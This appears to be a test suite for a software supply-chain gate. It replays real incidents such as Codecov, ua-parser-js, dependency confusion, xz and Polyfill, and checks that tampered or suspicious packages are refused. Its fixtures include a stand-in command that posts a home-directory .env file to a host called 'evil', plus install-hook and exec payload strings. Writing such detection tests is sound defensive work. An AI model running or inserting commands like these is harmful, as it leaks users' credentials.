import { createHash } from "node:crypto";
import { gzipSync } from "node:zlib";
import { sha256 } from "@touchmark/core";
import { parsePipelineFile } from "@touchmark/formats/pipeline";
import { forgeTar } from "@touchmark/test-kit/archives";
import { describe, expect, test } from "vitest";
import { judge } from "./archive-scene.ts";
import { everybody, highest, judged, own, refusals, rules, told } from "./gate-scene.ts";

// Replays of incidents; the numbers are those of the catalogue of attacks (AT).

describe("AT4 Codecov 2021: a script behind an address is replaced", () => {
  const honest = createHash("sha256").update("#!/bin/sh\nupload coverage").digest("hex");
  const stolen = createHash("sha256").update("#!/bin/sh\nupload coverage; curl -d @- evil < ~/.env").digest("hex");
  const script = { ecosystem: "generic", name: "upload.sh", version: "1" } as const;
  test("attack: the bytes are not those that the pipeline pins", () => {
    const locked = [{ digests: [{ algorithm: "sha256" as const, value: honest }] }];
    expect(refusals(rules(), { ...script, locked, more: { hashes: { sha256: honest } } })).toEqual([]);
    expect(refusals(rules(), { ...script, locked, more: { hashes: { sha256: stolen } } })).toEqual([
      "GATE_DIGEST_DIFFERS",
    ]);
  });
  test("attack: nobody pinned it", () => {
    expect(refusals(rules(), { ...script, locked: [], more: { hashes: { sha256: stolen } } })).toEqual([
      "GATE_NOT_LOCKED",
      "GATE_DIGEST_UNKNOWN",
    ]);
  });
});

describe("AT6 ua-parser-js 2021: a stolen account publishes a version that runs a program while it is installed", () => {
  const evil = gzipSync(
    forgeTar([
      {
        name: "package/package.json",
        content: '{"scripts":{"preinstall":"start /B node preinstall.js & node preinstall.js"}}',
      },
    ]),
  );
  test("attack: the program is listed and does not run; strict rules refuse it", async () => {
    const { archive } = await judge(evil, "ua-parser-js-0.7.29.tgz");
    expect(archive.installScripts).toEqual(["package.json scripts.preinstall"]);
    const scene = { name: "ua-parser-js", version: "0.7.29", more: { archive } };
    expect(judged(rules(), scene).results.find((each) => each.rule === "install-scripts")?.message).toContain(
      "does not run",
    );
    expect(refusals(rules({ installScripts: { mode: "refuse", allowed: [] } }), scene)).toEqual([
      "GATE_INSTALL_SCRIPT",
    ]);
  });
  test("attack: a client that takes a range gets it, a lockfile does not", () => {
    const locked = [{ version: "0.7.28" }];
    expect(refusals(rules(), { name: "ua-parser-js", version: "0.7.29", locked })).toContain("GATE_NOT_LOCKED");
    expect(told(rules(), { name: "ua-parser-js", version: "0.7.29", locked })).toContain("(0.7.28 would pass)");
  });
  test("attack: it was published four hours ago", () => {
    const scene = { name: "ua-parser-js", version: "0.7.29", announced: { publishedAt: "2026-05-31T20:00:00Z" } };
    expect(refusals(rules({ minimumAge: { seconds: 3 * 86_400, except: [] } }), scene)).toEqual(["GATE_TOO_YOUNG"]);
  });
});

describe("AT7 colors 2022: a maintainer breaks his own package in a patch release", () => {
  test("attack: the range takes the new patch, the lockfile holds the old one", () => {
    // Naive: ^1.4.0 resolves to the newest patch.
    expect(
      highest([
        { version: "1.4.0", from: everybody },
        { version: "1.4.1", from: everybody },
      ])?.version,
    ).toBe("1.4.1");
    expect(refusals(rules(), { name: "colors", version: "1.4.1", locked: [{ version: "1.4.0" }] })).toContain(
      "GATE_NOT_LOCKED",
    );
  });
  test("attack: even a lockfile that names it meets the list of denied packages and the registry's own word", () => {
    const scene = { name: "colors", version: "1.4.1", announced: { withdrawn: "sabotaged, use 1.4.0" } };
    expect(refusals(rules({ denied: [{ packages: "pkg:npm/colors@1.4.1", reason: "sabotaged" }] }), scene)).toEqual([
      "GATE_DENIED",
    ]);
    expect(refusals(rules({ withdrawn: "refuse" }), scene)).toEqual(["GATE_WITHDRAWN"]);
  });
});

describe("AT8 dependency confusion 2021: a public package of an internal name, with a higher version", () => {
  const offers = [
    { version: "1.2.0", from: own },
    { version: "99.0.0", from: everybody },
  ];
  test.each(["@acme/billing", "acme-billing", "ACME-billing", "@Acme/Billing"])("attack: %s from everybody", (name) => {
    // Naive: a client that asks both takes the highest version.
    expect(highest(offers)).toMatchObject({ from: everybody });
    for (const version of ["99.0.0", "1.2.0"]) {
      expect(refusals(rules(), { name, version, from: everybody })).toContain("GATE_SCOPE_EXCLUSIVE");
    }
    expect(refusals(rules(), { name, version: "1.2.0", from: own })).toEqual([]);
  });
  test("attack: the name is refused before anybody is asked for it", () => {
    const more = { phase: "contact" as const };
    const decision = judged(rules(), { name: "@acme/secret-project", version: "1.0.0", from: everybody, more });
    expect(decision.verdict).toBe("refused");
  });
  test("attack: a name that nobody made exclusive, unlocked, from the later repository", () => {
    const both = rules({
      upstreams: { npm: [{ ...own, exclusive: [] }, everybody] },
      unlocked: { ...rules().unlocked, npm: "record" },
      lookalike: { ...rules().lookalike, mode: "off" },
    });
    const digests = [{ algorithm: "sha256", value: "1".repeat(64), source: "index", from: "x" }] as const;
    const scene = { name: "internal-tool", version: "99.0.0", locked: [], announced: { digests } };
    expect(refusals(both, scene)).toEqual(["GATE_UPSTREAM_UNTRUSTED"]);
    expect(refusals(both, { ...scene, more: { absentFrom: ["own"] } })).toEqual([]);
  });
});

describe("AT9 Colourama 2018: a name that a developer types by mistake", () => {
  const known = { known: ["colorama", "requests", "python-dateutil"] };
  test.each(["colourama", "reqeusts", "request5", "requestss", "python-datеutil", "pythondateutil", "col0rama"])(
    "attack: %s",
    (name) => {
      const scene = { ecosystem: "pypi", name, version: "0.1.6", more: known } as const;
      expect(refusals(rules(), scene)).toEqual(["GATE_LOOKALIKE"]);
    },
  );
  test("attack: a new name without a decision is not taken in", () => {
    const reviewed = rules({ thirdPartyReview: { required: "new", parties: ["first", "second"] } });
    const scene = { ecosystem: "pypi", name: "brand-new", version: "0.1.0", more: known } as const;
    expect(refusals(reviewed, scene)).toEqual(["GATE_REVIEW_MISSING"]);
    const review = {
      digest: sha256("review"),
      packages: "pkg:pypi/brand-new",
      decision: "accept",
      steps: [],
      party: "third",
      approver: "somebody",
      expires: "2027-01-01T00:00:00Z",
    } as const;
    // Neither one by a party that does not count, nor one that is over.
    expect(refusals(reviewed, { ...scene, more: { ...known, reviews: [review] } })).toEqual(["GATE_REVIEW_MISSING"]);
    const over = { ...review, party: "first", expires: "2026-05-31T00:00:00Z" } as const;
    expect(refusals(reviewed, { ...scene, more: { ...known, reviews: [over] } })).toEqual(["GATE_REVIEW_MISSING"]);
    const good = { ...review, party: "first" } as const;
    expect(refusals(reviewed, { ...scene, more: { ...known, reviews: [good] } })).toEqual([]);
  });
});

describe("AT10 ctx 2022: an expired domain gives the account of a dormant package to somebody else", () => {
  const history = {
    package: "pkg:pypi/ctx",
    versions: [
      {
        version: "0.1.2",
        admittedAt: "2025-01-01T00:00:00Z",
        publisher: "figlief",
        evidence: ["pypi-attestation" as const],
        installScripts: false,
        upstream: "everybody",
      },
    ],
  };
  const scene = { ecosystem: "pypi", name: "ctx", version: "0.2.2" } as const;
  test("attack: a new publisher of a known name", () => {
    const strict = rules({ newPublisher: "refuse", vanishedEvidence: "record" });
    expect(refusals(strict, { ...scene, announced: { publisher: "mallory" }, more: { history } })).toEqual([
      "GATE_NEW_PUBLISHER",
    ]);
    expect(refusals(strict, { ...scene, more: { history } })).toEqual(["GATE_FACTS_MISSING"]);
  });
  test("attack: the attestation of earlier versions is gone", () => {
    expect(refusals(rules(), { ...scene, more: { history } })).toEqual(["GATE_EVIDENCE_VANISHED"]);
    const evidence = [{ kind: "pypi-attestation", outcome: "unreachable", message: "503" }] as const;
    expect(refusals(rules(), { ...scene, more: { history, evidence } })).toEqual(["GATE_EVIDENCE_VANISHED"]);
  });
});

describe("AT11 RubyGems 2022: the registry serves other bytes under a published version", () => {
  const seen = [
    {
      purl: "pkg:npm/rack@2.2.3",
      fileName: "rack-2.2.3.tgz",
      digest: sha256("the bytes of the first day"),
      size: 26,
      firstSeen: "2026-01-01T00:00:00Z",
      upstream: "everybody",
    },
  ];
  test("attack: the lockfile's digest differs", () => {
    const more = { hashes: { sha256: "2".repeat(64) } };
    expect(refusals(rules(), { name: "rack", version: "2.2.3", more })).toEqual(["GATE_DIGEST_DIFFERS"]);
  });
  test("attack: a lockfile written after the exchange agrees, what was seen before does not", () => {
    expect(refusals(rules(), { name: "rack", version: "2.2.3", more: { seen } })).toEqual(["GATE_BYTES_CHANGED"]);
  });
  test("attack: only the weak digest is made to agree", () => {
    const locked = [
      {
        digests: [
          { algorithm: "sha1" as const, value: "3".repeat(40) },
          { algorithm: "sha512" as const, value: "4".repeat(128) },
        ],
      },
    ];
    const hashes = { sha256: "2".repeat(64), sha1: "3".repeat(40), sha512: "5".repeat(128) };
    expect(refusals(rules(), { name: "rack", version: "2.2.3", locked, more: { hashes } })).toEqual([
      "GATE_DIGEST_DIFFERS",
    ]);
    const { sha512: _, ...unmeasured } = hashes;
    expect(refusals(rules(), { name: "rack", version: "2.2.3", locked, more: { hashes: unmeasured } })).toEqual([
      "GATE_FACTS_MISSING",
    ]);
  });
});

describe("AT26 xz 2024, the half of installation: the released archive holds a program that the repository does not", () => {
  test("attack: a build script, a build backend and a start-up hook are listed and refused by strict rules", async () => {
    const strict = rules({ installScripts: { mode: "refuse", allowed: ["pkg:npm/known"] } });
    for (const [name, files] of [
      ["liblzma-5.6.1.crate", { "build.rs": "run(m4)", "Cargo.toml": "[package]\nname='x'\n" }],
      ["xz-5.6.1.tar.gz", { "setup.py": "exec(decode())", "PKG-INFO": "Name: xz\n" }],
      ["xz-5.6.1.tgz", { "package.json": '{"scripts":{"install":"sh build-to-host.m4"}}' }],
      ["xz-5.6.1.tgz", { "package.json": "{}", "binding.gyp": "{}" }],
    ] as const) {
      const bytes = gzipSync(
        forgeTar(Object.entries(files).map(([path, content]) => ({ name: `xz/${path}`, content }))),
      );
      const { archive } = await judge(bytes, name);
      expect(refusals(strict, { name: "xz", version: "5.6.1", more: { archive } })).toEqual(["GATE_INSTALL_SCRIPT"]);
      expect(refusals(strict, { name: "known", version: "5.6.1", more: { archive } })).toEqual([]);
    }
  });
});

describe("AT27 Polyfill 2024: the domain of a remote script is sold", () => {
  const script = { ecosystem: "generic", name: "polyfill.min.js", version: "3" } as const;
  test("attack: the script changes after the sale", () => {
    const more = { hashes: { sha256: "9".repeat(64) } };
    expect(refusals(rules(), { ...script, more })).toEqual(["GATE_DIGEST_DIFFERS"]);
  });
  test("attack: a pipeline that takes the script without a digest is refused before it runs", () => {
    const materials = "{ downloads: [{ url: 'https://cdn.example.com/polyfill.min.js' }] }";
    const step = `{ command: [a], network: fetch, materials: ${materials} }`;
    const text = `touchmark: pipeline/v1\nproject: p\npipelines: { d: { steps: { s: ${step} } } }\n`;
    expect(() => parsePipelineFile(text, "touchmark.yaml")).toThrow(/a plain download needs a digest/);
    expect(refusals(rules(), { ...script, locked: [] })).toEqual(["GATE_NOT_LOCKED", "GATE_DIGEST_UNKNOWN"]);
  });
});
